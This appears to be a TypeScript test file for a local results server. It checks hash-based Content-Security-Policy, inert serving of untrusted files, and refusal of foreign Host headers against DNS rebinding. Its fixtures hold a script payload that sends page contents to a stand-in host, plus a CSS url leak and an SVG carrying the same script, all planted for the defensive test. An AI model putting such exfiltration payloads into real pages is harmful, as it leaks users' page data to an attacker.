// Issue 22 item 6, serve: a results folder may hold files Faultline did not write (a node's own files, a folder
// someone sent). Only our pages are pages: the index, listings and a listed run's report.html, each under a policy
// of hashes of our own scripts and styles (no 'unsafe-inline'); every other file is inert (text/plain, JSON, or a
// download) with nosniff and a sandbox; a Host that does not name the address serve listens on is refused.
import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { sourceHash } from '../../../harness/report/source-hashes.js';
import { hostAllowed, parseHost } from '../../../harness/serve/host.js';
import { httpGet, serveOnAnyPort } from '../../helpers/http-get.js';
import { makeRunFolder } from '../../helpers/run-folders.js';

const root = mkdtempSync(join(tmpdir(), 'fl-serve-sec-'));
const genuine = makeRunFolder(root, { seed: 2, stale: true });
const crafted = makeRunFolder(root, { seed: 1 });
const EXFIL = "<script>location='http://127.0.0.2/?'+encodeURIComponent(document.body.innerHTML)</script>";
const LEAK_STYLE = 'background:url(http://127.0.0.2/x)';
writeFileSync(
  join(crafted, 'report.html'),
  `<!doctype html><html><body><i style="${LEAK_STYLE}"></i><i style="background:#123456"></i>${EXFIL}</body></html>`,
);
mkdirSync(join(crafted, 'nodes', 'n1'), { recursive: true });
writeFileSync(join(crafted, 'nodes', 'n1', 'evil.html'), `<html><body>${EXFIL}</body></html>`);
writeFileSync(join(crafted, 'nodes', 'n1', 'report.html'), `<html>${EXFIL}</html>`);
writeFileSync(join(crafted, 'nodes', 'n1', 'image.svg'), `<svg xmlns="http://www.w3.org/2000/svg">${EXFIL}</svg>`);
writeFileSync(join(crafted, 'nodes', 'n1', 'data.bin'), 'raw');
mkdirSync(join(root, 'loose'));
writeFileSync(join(root, 'loose', 'report.html'), EXFIL);
// A run folder reached through a symlink is not one the index lists: its report.html is not ours to render.
const [testDir] = relative(root, crafted).split('/');
symlinkSync(crafted, join(root, testDir, 'linked-run'));

let server: Server;
let base: string;
let port: number;
const rel = (dir: string, file: string): string =>
  `/${relative(root, dir).split('/').map(encodeURIComponent).join('/')}/${file}`;

test.before(async () => {
  ({ server, base, port } = await serveOnAnyPort(root));
});
test.after(() => {
  server.close();
});

/** Every inline script and style of `html` must be allowed by `csp`'s hashes, and nothing inline besides. */
function pageAllowsOnlyItsOwn(html: string, csp: string): void {
  assert.not.match(csp, /unsafe-inline|unsafe-eval/);
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /frame-ancestors 'none'/);
  const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
  const styleSrc = /style-src ([^;]*)/.exec(csp)?.[1] ?? '';
  for (const m of html.matchAll(/<(script|style)>([\s\S]*?)<\/\1>/g))
    assert.ok((m[1] === 'script' ? scriptSrc : styleSrc).includes(sourceHash(m[2])), `${m[1]} allowed by its hash`);
}

test('the index and a listing are our pages: hash policy, every inline element of theirs allowed', async () => {
  for (const p of ['/', '/index.html', `/${encodeURIComponent(testDir)}/`]) {
    const r = await httpGet(base, p);
    assert.is(r.status, 200, p);
    assert.match(r.type, /^text\/html/);
    assert.is(r.headers['x-content-type-options'], 'nosniff');
    pageAllowsOnlyItsOwn(r.body, r.csp);
  }
  const index = await httpGet(base, '/');
  assert.is((index.body.match(/<script>/g) ?? []).length, 1, 'one script: ours');
  assert.match(
    index.body,
    /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'sha256-/,
  );
});

test("a listed run's report.html is a page, but only our renderer's scripts may run in it", async () => {
  const real = await httpGet(base, rel(genuine, 'report.html'));
  assert.is(real.status, 200);
  assert.match(real.type, /^text\/html/);
  assert.is(real.body, readFileSync(join(genuine, 'report.html'), 'utf8'));
  pageAllowsOnlyItsOwn(real.body, real.csp);
  const fake = await httpGet(base, rel(crafted, 'report.html'));
  assert.match(fake.type, /^text\/html/);
  const script = /<script>([\s\S]*?)<\/script>/.exec(EXFIL)![1];
  assert.not.ok(fake.csp.includes(sourceHash(script)), "the crafted report's script is not allowed");
  assert.not.ok(fake.csp.includes(sourceHash(LEAK_STYLE)), 'nor a style attribute other than a colour swatch');
  assert.ok(fake.csp.includes(`'unsafe-hashes' ${sourceHash('background:#123456')}`), 'a swatch colour is allowed');
  // Today's renderer colours its legends by class (no style attribute); a report rendered before it has swatches.
  const swatches = [...real.body.matchAll(/style="([^"]*)"/g)].map((m) => m[1]);
  for (const s of swatches) assert.ok(real.csp.includes(sourceHash(s)), `the swatch ${s} is allowed`);
  assert.not.match(fake.csp, /unsafe-inline/);
});

test('every other file is inert: text/plain or a download, nosniff, a sandbox policy that runs nothing', async () => {
  const linked = `/${encodeURIComponent(testDir)}/linked-run/report.html`;
  for (const p of [
    rel(crafted, 'nodes/n1/evil.html'),
    rel(crafted, 'nodes/n1/report.html'),
    rel(crafted, 'nodes/n1/image.svg'),
    '/loose/report.html',
    linked,
  ]) {
    const r = await httpGet(base, p);
    assert.is(r.status, 200, p);
    assert.is(r.type, 'text/plain; charset=utf-8', p);
    assert.is(r.headers['x-content-type-options'], 'nosniff');
    assert.match(r.csp, /^default-src 'none'; sandbox/);
    assert.match(r.body, /<script>/, 'shown as its source');
  }
  const bin = await httpGet(base, rel(crafted, 'nodes/n1/data.bin'));
  assert.is(bin.type, 'application/octet-stream');
  assert.is(bin.headers['content-disposition'], 'attachment');
  assert.match((await httpGet(base, rel(crafted, 'history.jsonl'))).type, /^text\/plain/);
});

test('a Host that does not name the address serve listens on is refused (DNS rebinding)', async () => {
  for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`]) {
    assert.is((await httpGet(base, '/', { host })).status, 200, host);
  }
  for (const host of [
    `evil.example:${port}`,
    'evil.example',
    `127.0.0.1:${port + 1}`,
    '127.0.0.1',
    `[::1]:${port}`,
    '',
  ]) {
    const r = await httpGet(base, rel(genuine, 'history.jsonl'), { host });
    assert.is(r.status, 421, `Host: ${host}`);
    assert.not.match(r.body, /invoke/);
  }
});

test('hostAllowed: the address and port listened on, localhost for loopback, IP literals for a wildcard', () => {
  assert.equal(parseHost('[::1]:8080'), { name: '::1', port: 8080 });
  assert.equal(parseHost('a.b'), { name: 'a.b', port: undefined });
  assert.is(parseHost('a:b:c'), undefined);
  assert.is(parseHost('x:99999'), undefined);
  assert.ok(hostAllowed('[::1]:9', '::1', 9));
  assert.ok(hostAllowed('localhost:9', '::1', 9));
  assert.not.ok(hostAllowed('127.0.0.1:9', '::1', 9));
  assert.ok(hostAllowed('10.1.2.3:9', '0.0.0.0', 9));
  assert.ok(hostAllowed('[fe80::1]:9', '::', 9));
  assert.not.ok(hostAllowed('rebound.example:9', '0.0.0.0', 9));
  assert.ok(hostAllowed('192.168.1.5:9', '192.168.1.5', 9));
  assert.not.ok(hostAllowed('localhost:9', '192.168.1.5', 9), 'localhost is not a LAN address');
  assert.ok(hostAllowed('127.0.0.1', '127.0.0.1', 80), 'port 80 may be left out');
  assert.ok(hostAllowed('127.0.0.1:9', 'localhost', 9));
  assert.not.ok(hostAllowed(undefined, '127.0.0.1', 9));
});

test.run();
